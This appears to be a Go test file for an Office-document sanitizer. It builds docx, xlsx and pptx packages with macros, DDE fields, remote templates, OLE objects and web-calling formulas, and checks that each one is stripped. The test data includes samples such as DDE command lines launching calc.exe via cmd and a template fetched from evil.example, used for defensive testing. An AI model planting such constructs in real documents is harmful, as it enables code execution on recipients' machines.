package ooxml

import (
	"fmt"
	"strings"
	"testing"

	"sekisho/sanitize"
)

// cases has one package for each code of a finding: what must be told, what
// must not be in any part of the output and what must.
var cases = []struct {
	name   string
	pkg    func() *pkg
	rule   string // of a finding; "" for a clean file
	action sanitize.Action
	gone   []string
	stays  []string
}{
	{name: "plain docx", pkg: func() *pkg { return docx("") }, stays: []string{"本文"}},
	{name: "plain xlsx", pkg: func() *pkg { return xlsx(`<c r="A1"><f>SUM(B1:B2)</f><v>3</v></c>`, "", "") }, stays: []string{"<f>SUM(B1:B2)</f><v>3</v>"}},
	{name: "plain pptx", pkg: func() *pkg { return pptx("") }, stays: []string{"本文"}},
	{name: "vba", rule: "ooxml.vba", action: sanitize.Removed, gone: []string{"MARKER", "vbaProject", "macroEnabled"}, stays: []string{"本文"},
		pkg: func() *pkg {
			p := docx("")
			p.types[p.main] = "application/vnd.ms-word.document.macroEnabled.main+xml"
			return p.add("word/media/image1.png", "application/vnd.ms-office.vbaProject", "\xD0\xCF\x11\xE0MARKER").rel(p.main, "rId9", relM+"vbaProject", "media/image1.png")
		}},
	{name: "type with macros", rule: "ooxml.macro-type", action: sanitize.Replaced, gone: []string{"macroEnabled"},
		pkg: func() *pkg {
			p := pptx("")
			p.types[p.main] = "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml"
			return p
		}},
	{name: "unreached vba", rule: "ooxml.vba", action: sanitize.Removed, gone: []string{"MARKER"},
		pkg: func() *pkg {
			return docx("").add("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "MARKER")
		}},
	{name: "template", rule: "ooxml.template", action: sanitize.Removed, gone: []string{"evil.example", "attachedTemplate"},
		pkg: func() *pkg {
			p := docx("").add("word/settings.xml", typeWord+"settings+xml", `<w:settings `+nsW+` `+nsR+`><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`)
			return p.rel(p.main, "rId2", relO+"settings", "settings.xml").rel("word/settings.xml", "rId1", relO+"attachedTemplate", "external:http://evil.example/a.dotm")
		}},
	{name: "DDE field", rule: "ooxml.dde", action: sanitize.Replaced, gone: []string{"DDEAUTO", "calc", "instrText"}, stays: []string{"<w:t>結果</w:t>"},
		pkg: func() *pkg { return docx(fieldRuns("結果", "DD", "EAU", "TO c:\\\\calc.exe ")) }},
	{name: "field by a field", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"QUOTE", "cmd", "instrText", "68 68 69"}, stays: []string{"結果"},
		pkg: func() *pkg {
			inner := `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>`
			return docx(fieldRuns("結果", inner+" cmd"))
		}},
	{name: "simple field", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"INCLUDETEXT", "fldSimple"}, stays: []string{"<w:r><w:t>結果</w:t></w:r>"},
		pkg: func() *pkg {
			return docx(`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///c:/x&quot; "><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>`)
		}},
	{name: "field that never ends", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"INCLUDE"}, stays: []string{"見える"},
		pkg: func() *pkg {
			return docx(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r><w:r><w:t>見える</w:t></w:r></w:p>`)
		}},
	{name: "field hidden in deleted text", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"IMPORT"}, stays: []string{"結果"},
		pkg: func() *pkg {
			return docx(fieldRuns("結果", `</w:instrText></w:r><w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>IMPORT x`))
		}},
	{name: "harmless fields", stays: []string{"PAGE", "HYPERLINK", "https://example.jp/", "TOC"},
		pkg: func() *pkg {
			return docx(fieldRuns("1", "PAGE") + fieldRuns("x", ` HYPERLINK "https://example.jp/" `) + fieldRuns("目次", ` TOC \o "1-3" \h `) + fieldRuns("x", ` HYPERLINK \l "b1" `))
		}},
	{name: "property field", gone: []string{"AUTHOR"}, stays: []string{"誰か"}, pkg: func() *pkg { return docx(fieldRuns("誰か", " AUTHOR ")) }},
	{name: "hyperlink field to a file", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"HYPERLINK"}, stays: []string{"結果"},
		pkg: func() *pkg { return docx(fieldRuns("結果", ` HYPERLINK "file://server/share" `)) }},
	{name: "form macro", rule: "ooxml.macro", action: sanitize.Removed, gone: []string{"entryMacro"}, stays: []string{"FORMTEXT"},
		pkg: func() *pkg {
			return docx(`<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="n"/><w:entryMacro w:val="Run"/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
		}},
	{name: "alternative chunk", rule: "ooxml.alt-chunk", action: sanitize.Removed, gone: []string{"altChunk", "script", "a.html"},
		pkg: func() *pkg {
			p := docx(`<w:altChunk r:id="rId5"/>`).add("word/a.html", "text/html", "<script>")
			return p.rel(p.main, "rId5", relO+"aFChunk", "a.html")
		}},
	{name: "subdocument", rule: "ooxml.subdocument", action: sanitize.Removed, gone: []string{"subDoc", "other.docx"},
		pkg: func() *pkg {
			p := docx(`<w:subDoc r:id="rId5"/>`)
			return p.rel(p.main, "rId5", relO+"subDocument", "external:other.docx")
		}},
	{name: "mail merge", rule: "ooxml.mail-merge", action: sanitize.Removed, gone: []string{"mailMerge", "Provider"},
		pkg: func() *pkg {
			p := docx("").add("word/settings.xml", typeWord+"settings+xml", `<w:settings `+nsW+` `+nsR+`><w:mailMerge><w:connectString w:val="Provider=x"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`)
			return p.rel(p.main, "rId2", relO+"settings", "settings.xml").rel("word/settings.xml", "rId1", relO+"mailMergeSource", "external:file:///c:/x.mdb")
		}},
	{name: "frameset", rule: "ooxml.frameset", action: sanitize.Removed, gone: []string{"frameset", "evil"},
		pkg: func() *pkg {
			p := docx("").add("word/webSettings.xml", typeWord+"webSettings+xml", `<w:webSettings `+nsW+` `+nsR+`><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`)
			return p.rel(p.main, "rId2", relO+"webSettings", "webSettings.xml").rel("word/webSettings.xml", "rId1", relO+"frame", "external:http://evil/")
		}},
	{name: "data binding", gone: []string{"dataBinding", "MARKER"}, stays: []string{"値"},
		pkg: func() *pkg {
			p := docx(`<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>値</w:t></w:r></w:p></w:sdtContent></w:sdt>`).add("customXml/item1.xml", "application/xml", "<a>MARKER</a>")
			return p.rel(p.main, "rId5", relO+"customXml", "../customXml/item1.xml")
		}},
	{name: "smart tag", gone: []string{"smartTag", "evil"}, stays: []string{"名前"},
		pkg: func() *pkg {
			return docx(`<w:p><w:smartTag w:uri="evil" w:element="x"><w:smartTagPr><w:attr w:name="a" w:val="b"/></w:smartTagPr><w:r><w:t>名前</w:t></w:r></w:smartTag></w:p>`)
		}},
	{name: "object becomes its picture", rule: "ooxml.ole", action: sanitize.Replaced, gone: []string{"OLEObject", "MARKER", "w:object"}, stays: []string{"<w:pict>", "v:imagedata", "</w:pict>"},
		pkg: func() *pkg {
			p := docx(`<w:p><w:r><w:object w:dxaOrig="1"><v:shape id="s1" o:ole=""><v:imagedata r:id="rId6" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r></w:p>`)
			p.add("word/embeddings/oleObject1.bin", typeWord+"x", "\xD0\xCF\x11\xE0MARKER").add("word/media/image1.png", "image/png", pngBytes())
			return p.rel(p.main, "rId5", relO+"oleObject", "embeddings/oleObject1.bin").rel(p.main, "rId6", relO+"image", "media/image1.png")
		}},
	{name: "activex", rule: "ooxml.activex", action: sanitize.Removed, gone: []string{"w:control", "MARKER", "activeX"},
		pkg: func() *pkg {
			p := docx(`<w:p><w:r><w:object><v:shape id="s1"/><w:control r:id="rId5" w:name="c" w:shapeid="s1"/></w:object></w:r></w:p>`)
			p.add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<x>MARKER</x>")
			return p.rel(p.main, "rId5", relO+"control", "activeX/activeX1.xml")
		}},
	{name: "linked picture", rule: "ooxml.linked-image", action: sanitize.Replaced, gone: []string{"evil", "r:link"}, stays: []string{`r:embed="rId5"`, "\x89PNG"},
		pkg: func() *pkg {
			p := docx(fmt.Sprintf(blip, `r:link="rId5"`))
			return p.rel(p.main, "rId5", relO+"image", "external:http://evil.example/a.png")
		}},
	{name: "picture that is none", rule: "ooxml.picture", action: sanitize.Replaced, gone: []string{"MARKER"}, stays: []string{"\x89PNG", `r:embed="rId5"`},
		pkg: func() *pkg {
			p := docx(fmt.Sprintf(blip, `r:embed="rId5"`)).add("word/media/image1.png", "image/png", "\x89PNGMARKER")
			return p.rel(p.main, "rId5", relO+"image", "media/image1.png")
		}},
	{name: "picture", stays: []string{"\x89PNG", `r:embed="rId5"`}, gone: []string{"svg"},
		pkg: func() *pkg {
			p := docx(strings.Replace(fmt.Sprintf(blip, `r:embed="rId5"`), `"rId5"/>`, `"rId5"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId6"/></a:ext></a:extLst></a:blip>`, 1))
			p.add("word/media/image1.png", "image/png", pngBytes()).add("word/media/image2.svg", "image/svg+xml", "<svg onload='x'/>")
			return p.rel(p.main, "rId5", relO+"image", "media/image1.png").rel(p.main, "rId6", relO+"image", "media/image2.svg")
		}},
	{name: "link to a file", rule: "ooxml.link", action: sanitize.Neutralised, gone: []string{"file:", `r:id="rId5"`}, stays: []string{"<w:hyperlink", "名"},
		pkg: func() *pkg {
			p := docx(`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>`)
			return p.rel(p.main, "rId5", relO+"hyperlink", "external:file://server/share/a.exe")
		}},
	{name: "a separator that a deletion takes along", rule: "ooxml.field", action: sanitize.Replaced, gone: []string{"DDEAUTO", "fldChar"}, stays: []string{"見える"},
		pkg: func() *pkg {
			return docx(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:del><w:r><w:t>見える</w:t></w:r><w:r><w:instrText>DDEAUTO c d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
		}},
	{name: "a field inserted as a whole", stays: []string{"fldChar", "PAGE"},
		pkg: func() *pkg {
			return docx(`<w:p><w:ins w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:ins></w:p>`)
		}},
	{name: "element that Word does not know", rule: "ooxml.foreign-xml", action: sanitize.Rewritten, gone: []string{"loadFrom", "w:evil"}, stays: []string{"見える"},
		pkg: func() *pkg {
			return docx(`<w:p><w:loadFrom w:val="x"><w:r w:evil="y"><w:t>見える</w:t></w:r></w:loadFrom></w:p>`)
		}},
	{name: "extension that nobody has looked at", rule: "ooxml.foreign-xml", action: sanitize.Rewritten, gone: []string{"n:tomorrow"}, stays: []string{"extLst-stays"},
		pkg: func() *pkg {
			return xlsx(`<c r="A1" t="inlineStr"><is><t>extLst-stays</t></is></c>`, `<extLst><ext uri="{0}" xmlns:n="http://schemas.microsoft.com/office/spreadsheetml/2031/tomorrow"><n:tomorrow/></ext></extLst>`, "")
		}},
	{name: "attribute that Excel does not know", rule: "ooxml.foreign-xml", action: sanitize.Rewritten, gone: []string{"onload"}, stays: []string{"値"},
		pkg: func() *pkg { return xlsx(`<c r="A1" t="inlineStr" onload="x()"><is><t>値</t></is></c>`, "", "") }},
	{name: "links of the web", stays: []string{"https://example.jp/", "mailto:a@example.jp", "rId5", "rId6"},
		pkg: func() *pkg {
			p := docx(`<w:p><w:hyperlink r:id="rId5"><w:r><w:t>名</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>`)
			return p.rel(p.main, "rId5", relO+"hyperlink", "external:https://example.jp/?a=1&amp;b=2").rel(p.main, "rId6", relO+"hyperlink", "external:mailto:a@example.jp")
		}},
	{name: "id that leads nowhere", gone: []string{"rId77"}, stays: []string{"名"}, pkg: func() *pkg {
		return docx(`<w:p><w:hyperlink r:id="rId77"><w:r><w:t>名</w:t></w:r></w:hyperlink></w:p>` + fmt.Sprintf(blip, `r:embed="rId77"`))
	}},
	{name: "custom ui", rule: "ooxml.custom-ui", action: sanitize.Removed, gone: []string{"onLoad"},
		pkg: func() *pkg {
			return docx("").add("customUI/customUI.xml", "", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>`).rel("", "rId8", relM+"ui/extensibility", "customUI/customUI.xml")
		}},
	{name: "web extension", rule: "ooxml.web-extension", action: sanitize.Removed, gone: []string{"webextension"},
		pkg: func() *pkg {
			return docx("").add("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", `<x/>`).rel("", "rId8", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
		}},
	{name: "signature", rule: "ooxml.signature", action: sanitize.Removed, gone: []string{"_xmlsignatures"},
		pkg: func() *pkg {
			return docx("").add("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", "").rel("", "rId8", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs")
		}},
	{name: "fonts", rule: "ooxml.font", action: sanitize.Removed, gone: []string{"embedRegular", "MARKER"}, stays: []string{"外字"},
		pkg: func() *pkg {
			p := docx("").add("word/fontTable.xml", typeWord+"fontTable+xml", `<w:fonts `+nsW+` `+nsR+`><w:font w:name="外字"><w:embedRegular r:id="rId1" w:fontKey="{1}"/></w:font></w:fonts>`).add("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MARKER")
			return p.rel(p.main, "rId2", relO+"fontTable", "fontTable.xml").rel("word/fontTable.xml", "rId1", relO+"font", "fonts/font1.odttf")
		}},
	{name: "unknown part", rule: "ooxml.part", action: sanitize.Removed, gone: []string{"MARKER"},
		pkg: func() *pkg {
			p := docx("").add("word/x.bin", "application/x", "MARKER")
			return p.rel(p.main, "rId5", "http://example.jp/relation", "x.bin")
		}},
	{name: "properties are no news", gone: []string{"秘密", "MARKER"}, stays: []string{"<Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion>"},
		pkg: func() *pkg {
			p := docx("").add("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<a>秘密</a>").add("docProps/thumbnail.jpeg", "image/jpeg", "MARKER")
			p.add("docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml", `<Properties xmlns="x"><Application>Microsoft Office Word</Application><Company>秘密</Company><AppVersion>16.0000</AppVersion></Properties>`)
			return p.rel("", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml").rel("", "rId3", relO+"extended-properties", "docProps/app.xml").rel("", "rId4", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg")
		}},
	{name: "foreign XML", gone: []string{"urn:x\"/>", "f:a"}, stays: []string{"残る"}, pkg: func() *pkg {
		return docx(`<w:p><f:a xmlns:f="urn:x"><w:r><w:t>残る</w:t></w:r></f:a></w:p>`)
	}},
	{name: "namespaces of tags that went", stays: []string{`<q:r xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:t>残る</q:t></q:r>`}, gone: []string{"smartTag"}, pkg: func() *pkg {
		return docx(`<w:p><w:smartTag xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:r><q:t>残る</q:t></q:r></w:smartTag></w:p>`)
	}},
	{name: "comments and instructions are no news", gone: []string{"秘密", "<?x "}, stays: []string{"a &lt;b&gt; c"}, pkg: func() *pkg {
		return docx(`<!-- 秘密 --><?x 秘密?><w:p><w:r><w:t>a <![CDATA[<b>]]> c</w:t></w:r></w:p>`)
	}},

	{name: "formula", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"WEBSERVICE"}, stays: []string{`<c r="A1" t="str"><v>答</v></c>`},
		pkg: func() *pkg {
			return xlsx(`<c r="A1" t="str"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>答</v></c>`, "", "")
		}},
	{name: "formula in pieces", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"WEBSERVICE"}, stays: []string{"<v>1</v>"},
		pkg: func() *pkg {
			return xlsx(`<c r="A1"><f>1+<t>"</t>+WEBSERVICE("h")&amp;<t>"</t></f><v>1</v></c>`, "", "")
		}},
	{name: "DDE formula", rule: "ooxml.dde", action: sanitize.Replaced, gone: []string{"cmd"}, stays: []string{"<v>1</v>"},
		pkg: func() *pkg { return xlsx(`<c r="A1"><f>cmd|'/c calc'!A0</f><v>1</v></c>`, "", "") }},
	{name: "shared formula", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"<f", "EXEC"}, stays: []string{"<v>1</v>", "<v>2</v>"},
		pkg: func() *pkg {
			return xlsx(`<c r="A1"><f t="shared" ref="A1:A2" si="0">EXEC("x")</f><v>1</v></c><c r="A2"><f t="shared" si="0"/><v>2</v></c>`, "", "")
		}},
	{name: "shared formula that stays", stays: []string{`<f t="shared" si="0"/>`},
		pkg: func() *pkg {
			return xlsx(`<c r="A1"><f t="shared" ref="A1:A2" si="0">B1+1</f><v>1</v></c><c r="A2"><f t="shared" si="0"/><v>2</v></c>`, "", "")
		}},
	{name: "external workbook", rule: "ooxml.external-link", action: sanitize.Removed, gone: []string{"externalReference", "[1]", "other.xlsx"}, stays: []string{"<v>7</v>"},
		pkg: func() *pkg {
			p := xlsx(`<c r="A1"><f>[1]Sheet1!A1</f><v>7</v></c>`, "", `<externalReferences><externalReference r:id="rId5"/></externalReferences>`)
			p.add("xl/externalLinks/externalLink1.xml", typeSheet+"externalLink+xml", `<externalLink `+nsS+`/>`)
			return p.rel(p.main, "rId5", relO+"externalLink", "externalLinks/externalLink1.xml").rel("xl/externalLinks/externalLink1.xml", "rId1", relO+"externalLinkPath", "external:other.xlsx")
		}},
	{name: "external reference", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"[1]"}, stays: []string{"#REF!"},
		pkg: func() *pkg {
			return xlsx("", "", `<definedNames><definedName name="N">[1]Sheet1!$A$1</definedName></definedNames>`)
		}},
	{name: "formulas of a name that went", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"[1]", "<f>SUM(fern)</f>", "<f>Fern+", "<f t="}, stays: []string{`<c r="A1"><v>7</v></c>`, "<f>SUM(Nah)</f>", `<f>"Fern"&amp;B1</f>`, "<f>Fern!A1</f>", "<f>SUM(Beide)</f>"},
		pkg: func() *pkg {
			return xlsx(`<c r="A1"><f>SUM(fern)</f><v>7</v></c><c r="B1"><f>SUM(Nah)</f><v>8</v></c><c r="C1"><f>"Fern"&amp;B1</f><v>9</v></c><c r="D1"><f>Fern!A1</f><v>1</v></c><c r="E1"><f t="shared" ref="E1:F1" si="0">Fern+1</f><v>1</v></c><c r="F1"><f t="shared" si="0"/><v>1</v></c><c r="G1"><f>SUM(Beide)</f><v>2</v></c>`, "",
				`<definedNames><definedName name="Fern">[1]Sheet1!$A$1</definedName><definedName name="Nah">表!$A$1</definedName><definedName name="Beide">[1]Sheet1!$A$1</definedName><definedName name="Beide" localSheetId="0">表!$A$1</definedName></definedNames>`)
		}},
	{name: "macro sheet", rule: "ooxml.macro-sheet", action: sanitize.Replaced, gone: []string{"EXEC", "macrosheet"}, stays: []string{`name="M"`, `state="veryHidden"`, "<sheetData/>"},
		pkg: func() *pkg {
			p := xlsx("", "", "")
			p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<sheets><sheet name="M" sheetId="2" state="veryHidden" r:id="rId2"/>`, 1)
			p.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", `<m>EXEC("x")</m>`)
			return p.rel(p.main, "rId2", relM+"xlMacrosheet", "macrosheets/sheet1.xml")
		}},
	{name: "dialog sheet", rule: "ooxml.dialog-sheet", action: sanitize.Replaced, gone: []string{"dialogsheet"}, stays: []string{`name="M"`, "<sheetData/>"},
		pkg: func() *pkg {
			p := xlsx("", "", "")
			p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<sheets><sheet name="M" sheetId="2" r:id="rId2"/>`, 1)
			p.add("xl/dialogsheets/sheet1.xml", typeSheet+"dialogsheet+xml", `<dialogsheet `+nsS+`/>`)
			return p.rel(p.main, "rId2", relO+"dialogsheet", "dialogsheets/sheet1.xml")
		}},
	{name: "auto-run name", rule: "ooxml.auto-run", action: sanitize.Removed, gone: []string{"Auto_Open", "definedNames"},
		pkg: func() *pkg {
			return xlsx("", "", `<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">表!$A$1</definedName></definedNames>`)
		}},
	{name: "macro name", rule: "ooxml.macro-name", action: sanitize.Removed, gone: []string{"vbProcedure", `"M"`}, stays: []string{"Print_Area"},
		pkg: func() *pkg {
			return xlsx("", "", `<definedNames><definedName name="M" vbProcedure="1">0</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">表!$A$1</definedName></definedNames>`)
		}},
	{name: "connection", rule: "ooxml.connection", action: sanitize.Removed, gone: []string{"evil", "connection"},
		pkg: func() *pkg {
			p := xlsx("", `<tableParts count="1"><tablePart r:id="rId1"/></tableParts>`, "")
			p.add("xl/connections.xml", typeSheet+"connections+xml", `<connections `+nsS+`><connection id="1"><webPr url="http://evil"/></connection></connections>`)
			p.add("xl/tables/table1.xml", typeSheet+"table+xml", `<table `+nsS+` id="1" name="T" displayName="T" ref="A1:A2" tableType="queryTable" connectionId="1"><tableColumns count="1"><tableColumn id="1" name="a" queryTableFieldId="1"/></tableColumns></table>`)
			p.add("xl/queryTables/queryTable1.xml", typeSheet+"queryTable+xml", `<queryTable `+nsS+` connectionId="1"/>`)
			return p.rel(p.main, "rId5", relO+"connections", "connections.xml").rel("xl/worksheets/sheet1.xml", "rId1", relO+"table", "../tables/table1.xml").rel("xl/tables/table1.xml", "rId1", relO+"queryTable", "../queryTables/queryTable1.xml")
		}},
	{name: "pivot of elsewhere", rule: "ooxml.pivot", action: sanitize.Neutralised, gone: []string{"pivotCache"},
		pkg: func() *pkg {
			p := xlsx("", "", `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`)
			p.add("xl/pivotCache/pivotCacheDefinition1.xml", typeSheet+"pivotCacheDefinition+xml", `<pivotCacheDefinition `+nsS+`><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`)
			p.add("xl/pivotTables/pivotTable1.xml", typeSheet+"pivotTable+xml", `<pivotTableDefinition `+nsS+` name="p" cacheId="1"/>`)
			return p.rel(p.main, "rId5", relO+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml").rel("xl/worksheets/sheet1.xml", "rId1", relO+"pivotTable", "../pivotTables/pivotTable1.xml").rel("xl/pivotTables/pivotTable1.xml", "rId1", relO+"pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
		}},
	{name: "refresh on load", rule: "ooxml.refresh-on-load", action: sanitize.Neutralised, gone: []string{"refreshOnLoad"}, stays: []string{"pivotCacheDefinition"},
		pkg: func() *pkg {
			p := xlsx("", "", `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`)
			p.add("xl/pivotCache/pivotCacheDefinition1.xml", typeSheet+"pivotCacheDefinition+xml", `<pivotCacheDefinition `+nsS+` refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="表"/></cacheSource></pivotCacheDefinition>`)
			return p.rel(p.main, "rId5", relO+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
		}},
	{name: "validation by another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"dataValidation", "[1]"},
		pkg: func() *pkg {
			return xlsx("", `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]S!$A$1:$A$3</formula1></dataValidation></dataValidations>`, "")
		}},
	{name: "validation list", stays: []string{`"はい,いいえ"`, "dataValidations"},
		pkg: func() *pkg {
			return xlsx("", `<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>"はい,いいえ"</formula1></dataValidation></dataValidations>`, "")
		}},
	{name: "condition by another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"cfRule", "conditionalFormatting", "extLst"},
		pkg: func() *pkg {
			return xlsx("", `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]S!$A$1&gt;0</formula></cfRule></conditionalFormatting><extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression"><xm:f>[1]S!A1</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>`, "")
		}},
	{name: "control with a macro", rule: "ooxml.macro", action: sanitize.Removed, gone: []string{"ctrlProp", "controls", "FmlaMacro", "Macro1", "AlternateContent"}, stays: []string{"押す", "legacyDrawing"},
		pkg: func() *pkg {
			p := xlsx("", `<legacyDrawing r:id="rId2"/><mc:AlternateContent><mc:Choice Requires="x14"><controls><mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1025" r:id="rId3" name="b"><controlPr macro="Macro1"/></control></mc:Choice></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>`, "")
			p.add("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", `<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" fmlaMacro="Macro1"/>`)
			p.add("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", `<xml `+nsV+` `+nsO+` `+nsX+`><v:shape id="b"><![if gte mso 9]><v:textbox><div><font>押す<br>る</font></div></v:textbox><![endif]><x:ClientData ObjectType="Button"><x:FmlaMacro>Macro1</x:FmlaMacro></x:ClientData></v:shape></xml>`)
			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"vmlDrawing", "../drawings/vmlDrawing1.vml").rel("xl/worksheets/sheet1.xml", "rId3", relO+"ctrlProp", "../ctrlProps/ctrlProp1.xml")
		}},
	{name: "shape with a macro", rule: "ooxml.macro", action: sanitize.Removed, gone: []string{"Macro1"}, stays: []string{`<xdr:sp macro="" textlink="">`},
		pkg: func() *pkg {
			p := xlsx("", `<drawing r:id="rId2"/>`, "")
			p.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr `+nsXD+`><xdr:sp macro="[0]!Macro1" textlink=""></xdr:sp></xdr:wsDr>`)
			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"drawing", "../drawings/drawing1.xml")
		}},
	{name: "printer and chain are no news", gone: []string{"printerSettings", "calcChain"}, stays: []string{`<pageSetup paperSize="9"/>`},
		pkg: func() *pkg {
			p := xlsx("", `<pageSetup paperSize="9" r:id="rId2"/>`, "").add("xl/printerSettings/printerSettings1.bin", typeSheet+"printerSettings", "x").add("xl/calcChain.xml", typeSheet+"calcChain+xml", "<calcChain "+nsS+"/>")
			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"printerSettings", "../printerSettings/printerSettings1.bin").rel(p.main, "rId5", relO+"calcChain", "calcChain.xml")
		}},
	{name: "rich value", rule: "ooxml.rich-value", action: sanitize.Replaced, gone: []string{"vm="}, stays: []string{"#VALUE!"},
		pkg: func() *pkg { return xlsx(`<c r="A1" t="e" vm="1"><v>#VALUE!</v></c>`, "", "") }},
	{name: "cell link to a file", rule: "ooxml.link", action: sanitize.Neutralised, gone: []string{"hyperlink"},
		pkg: func() *pkg {
			return xlsx("", `<hyperlinks><hyperlink ref="A1" r:id="rId2"/></hyperlinks>`, "").rel("xl/worksheets/sheet1.xml", "rId2", relO+"hyperlink", "external:other.xlsx")
		}},
	{name: "embedded object in a sheet", rule: "ooxml.ole", action: sanitize.Removed, gone: []string{"oleObject", "MARKER", "AlternateContent"},
		pkg: func() *pkg {
			p := xlsx("", `<oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1" r:id="rId2"/></mc:Choice></mc:AlternateContent></oleObjects>`, "")
			return p.add("xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "\xD0\xCFMARKER").rel("xl/worksheets/sheet1.xml", "rId2", relO+"oleObject", "../embeddings/oleObject1.bin")
		}},
